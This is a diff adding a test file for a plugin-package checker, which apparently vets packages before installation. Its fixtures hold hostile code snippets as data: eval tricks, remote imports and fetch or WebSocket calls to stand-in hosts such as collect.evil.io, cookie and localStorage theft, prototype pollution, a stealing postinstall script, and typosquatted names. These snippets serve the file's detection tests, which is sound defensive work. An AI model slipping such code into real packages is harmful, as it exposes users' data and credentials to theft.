@@ -1,0 +1,200 @@
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { dirname, join } from 'node:path'
+import { afterEach, describe, expect, test } from 'vitest'
+import { type CheckOptions, checkPackage } from './checkPackage.ts'
+import { isRefused, type Report } from './report.ts'
+
+// Packages are written below this package's node_modules, from where they find the kernel as an installed one does.
+const PARENT = join(import.meta.dirname, '../../node_modules/.cache/latchkey')
+
+interface Changes {
+  /** What the module does when it is loaded. */
+  readonly loads?: string
+  /** What the plugin has besides its id. */
+  readonly plugin?: string
+  readonly json?: Readonly<Record<string, unknown>>
+  readonly manifest?: Readonly<Record<string, unknown>>
+  readonly files?: Readonly<Record<string, string>>
+}
+
+const made: string[] = []
+afterEach(async () => {
+  await Promise.all(made.splice(0).map((folder) => rm(folder, { recursive: true, force: true })))
+})
+
+const MAP = JSON.stringify({ version: 3, sources: ['index.ts'], sourcesContent: ['export {}'], mappings: '' })
+
+/** A package that passes, apart from what is changed. */
+async function check(changes: Changes = {}, options: CheckOptions = {}): Promise<Report> {
+  await mkdir(PARENT, { recursive: true })
+  const folder = await mkdtemp(join(PARENT, 'hostile-'))
+  made.push(folder)
+  const code = `${changes.loads ?? ''}\nexport function notes() {\n  return { id: 'notes', api: 1, ${changes.plugin ?? ''} }\n}\n`
+  const json = {
+    name: '@someone/latchkey-notes',
+    version: '1.0.0',
+    license: 'MIT',
+    type: 'module',
+    exports: { '.': { types: './dist/index.d.ts', default: './dist/index.js' } },
+    latchkey: { kind: 'plugin', id: 'notes', kernel: '1', sizeClass: 'small', ...changes.manifest },
+    ...changes.json,
+  }
+  const files = {
+    'package.json': JSON.stringify(json),
+    'README.md': '# Notes',
+    LICENSE: 'MIT',
+    'dist/index.js': code,
+    'dist/index.js.map': MAP,
+    'dist/index.d.ts': 'export declare function notes(): object',
+    ...changes.files,
+  }
+  for (const [path, text] of Object.entries(files)) {
+    await mkdir(dirname(join(folder, path)), { recursive: true })
+    await writeFile(join(folder, path), text)
+  }
+  return checkPackage(folder, options)
+}
+
+const errorsOf = ({ findings }: Report): readonly string[] =>
+  findings.filter(({ level }) => level === 'error').map(({ rule }) => rule)
+
+describe('checkPackage', () => {
+  test('default: an honest package passes, with its bytes and the hashes of its files', async () => {
+    const report = await check()
+    expect(report.findings).toEqual([])
+    expect(report.bytes.first).toBeGreaterThan(0)
+    expect(report.hashes['dist/index.js']).toMatch(/^[0-9a-f]{64}$/)
+  })
+
+  test.each<[string, string, Changes]>([
+    ['an install script', 'install-scripts', { json: { scripts: { postinstall: 'node steal.js' } } }],
+    ['a licence of its own', 'licence', { json: { license: 'SEE LICENSE IN TERMS' } }],
+    ['no licence', 'licence', { json: { license: undefined } }],
+    ['a key in the package', 'files', { files: { 'dist/server.pem': 'secret' } }],
+    ['a program in the package', 'files', { files: { 'bin/helper.exe': 'MZ' } }],
+    ['no source map', 'source-maps', { loads: `/* ${'word '.repeat(600)} */`, files: { 'dist/index.js.map': '{}' } }],
+    ['no types', 'types', { json: { exports: { '.': './dist/index.js' } } }],
+    ['a kernel of its own', 'dependencies', { json: { dependencies: { '@latchkey/kernel': '1.0.0' } } }],
+    [
+      'a dependency from a repository',
+      'dependencies',
+      { json: { dependencies: { left: 'git+https://evil.test/left' } } },
+    ],
+    ['no manifest', 'manifest', { json: { latchkey: undefined } }],
+    ['a field the manifest does not have', 'manifest', { manifest: { trusted: true } }],
+    ['another id than it says', 'manifest', { manifest: { id: 'note' } }],
+    ['eval', 'no-eval', { loads: 'const run = (text) => (0, eval)(text)' }],
+    ['eval by the page', 'no-eval', { loads: "const run = (text) => globalThis['eval'](text)" }],
+    ['code by a constructor', 'no-eval', { loads: 'const run = (text) => (() => {}).constructor(text)' }],
+    ['a timer with a text', 'no-eval', { loads: "const run = () => setTimeout('alert(1)', 10)" }],
+    ['code from elsewhere', 'downloaded-code', { loads: "const run = () => import('https://evil.test/code.js')" }],
+    ['code it learns of later', 'downloaded-code', { loads: 'const run = (address) => import(address)' }],
+    ['a script element', 'downloaded-code', { loads: "const run = () => document.createElement('script')" }],
+    [
+      'minified code',
+      'readable-code',
+      { loads: `const all = [${Array.from({ length: 900 }, (_, at) => at).join(',')}]` },
+    ],
+    [
+      'obfuscated code',
+      'readable-code',
+      { loads: Array.from({ length: 9 }, (_, at) => `const _0x${at}abcd = ${at}`).join('\n') },
+    ],
+    ['a hidden host', 'hosts', { loads: "const send = (text) => fetch('https://collect.evil.io/' + text)" }],
+    ['a hidden socket', 'hosts', { loads: "const open = () => new WebSocket('wss://collect.evil.io')" }],
+    ['storage theft', 'page-storage', { loads: 'const steal = () => Object.entries(localStorage)' }],
+    ['cookies', 'page-storage', { loads: 'const steal = () => document.cookie' }],
+    ['a wallet past the kernel', 'page-wallets', { loads: 'const ask = () => window.ethereum.request({})' }],
+    ['prototype pollution', 'shared-objects', { loads: 'Array.prototype.map = function () { return [] }' }],
+    [
+      'prototype pollution in another way',
+      'shared-objects',
+      { loads: "Object.defineProperty(Object.prototype, 'isAdmin', { value: true })" },
+    ],
+    [
+      'prototype pollution nobody sees in the code',
+      'shared-objects',
+      { loads: "const o = Object; const p = 'proto' + 'type'; o[p].isAdmin = true" },
+    ],
+    [
+      'a replaced function of the page',
+      'shared-objects',
+      {
+        loads:
+          'const g = (0, globalThis); const real = g.structuredClone; Reflect.set(g, "structuredClone", () => real)',
+      },
+    ],
+    ['a tap that is not declared', 'permissions', { plugin: 'hooks: { onRpcRequest: () => undefined }' }],
+    ['a host that is not declared', 'permissions', { plugin: "permissions: { hosts: ['api.example.com'] }" }],
+    [
+      'storage that is not declared',
+      'permissions',
+      { plugin: "atoms: { all: { [Symbol.for('latchkey.persisted')]: {} } }" },
+    ],
+    [
+      'a request before it is used',
+      'quiet-start',
+      { plugin: "setup: () => void fetch(['https:', '', 'track.test'].join('/')).catch(() => undefined)" },
+    ],
+    ['a start that fails', 'starts', { plugin: "setup: () => { throw new Error('no') }" }],
+    ['a process that ends', 'starts', { loads: 'process.exit(0)' }],
+    ['more bytes than it says', 'bytes', { manifest: { sizeClass: 'none' } }],
+  ])('error: %s is refused', async (_name, rule, changes) => {
+    const report = await check(changes)
+    expect(errorsOf(report)).toContain(rule)
+    for (const { message, fix } of report.findings) expect(`${message} ${fix}`).not.toMatch(/undefined|\[object/)
+  })
+
+  test('error: an endless loop is ended', async () => {
+    expect(errorsOf(await check({ plugin: 'setup: () => { for (;;); }' }, { limit: 2_000 }))).toEqual(['starts'])
+  })
+
+  test.each(['@latchkcy/plugin-send', '@1atchkey/plugin-send', '@latchkey-/plugin-send'])(
+    'error: the copied name %s',
+    async (name) => {
+      const report = await check({ json: { name } }, { known: ['@latchkey/plugin-send'] })
+      expect(errorsOf(report)).toEqual(['name'])
+    },
+  )
+
+  test('behavior: a name of its own beside known ones', async () => {
+    expect(isRefused(await check({}, { known: ['@latchkey/plugin-send', '@someone/latchkey-votes'] }))).toBe(false)
+  })
+
+  test('behavior: code that makes code is not run', async () => {
+    const report = await check({ loads: "const run = eval; eval('1'); Array.prototype.at = 0" })
+    expect(report.findings.map(({ message }) => message).join()).not.toContain('Array.prototype.at')
+  })
+})
+
+describe('a new version', () => {
+  const before = (): Promise<Report> => check({ json: { version: '1.2.0' } })
+  const permissions = {
+    plugin: "permissions: { hosts: ['api.example.com'] }, hooks: { onRpcRequest: () => undefined }",
+    manifest: { hosts: ['api.example.com'], hooks: ['onRpcRequest'] },
+  }
+
+  test('default: what is new is shown, what is sensitive is marked', async () => {
+    const report = await check({ ...permissions, json: { version: '1.3.0' } }, { before: await before() })
+    expect(report.changes).toEqual(
+      expect.arrayContaining(['new hook: onRpcRequest (sensitive)', 'new host: api.example.com']),
+    )
+    expect(report.findings).toMatchObject([{ rule: 'new-permissions', level: 'warning' }])
+  })
+
+  test('error: permissions that creep in with a patch version', async () => {
+    const report = await check({ ...permissions, json: { version: '1.2.1' } }, { before: await before() })
+    expect(errorsOf(report)).toEqual(['new-permissions'])
+  })
+
+  test('error: other files under the same version', async () => {
+    const report = await check({ json: { version: '1.2.0' }, loads: 'const other = 1' }, { before: await before() })
+    expect(errorsOf(report)).toEqual(['same-version'])
+  })
+
+  test('behavior: a jump in size is shown', async () => {
+    const words = Array.from({ length: 200 }, (_, at) => `const word${at} = 'some text ${at * 7919}'`).join('\n')
+    const report = await check({ json: { version: '1.3.0' }, loads: words }, { before: await before() })
+    expect(report.changes.join()).toMatch(/^first bundle: \d+ → \d+ bytes/)
+  })
+})
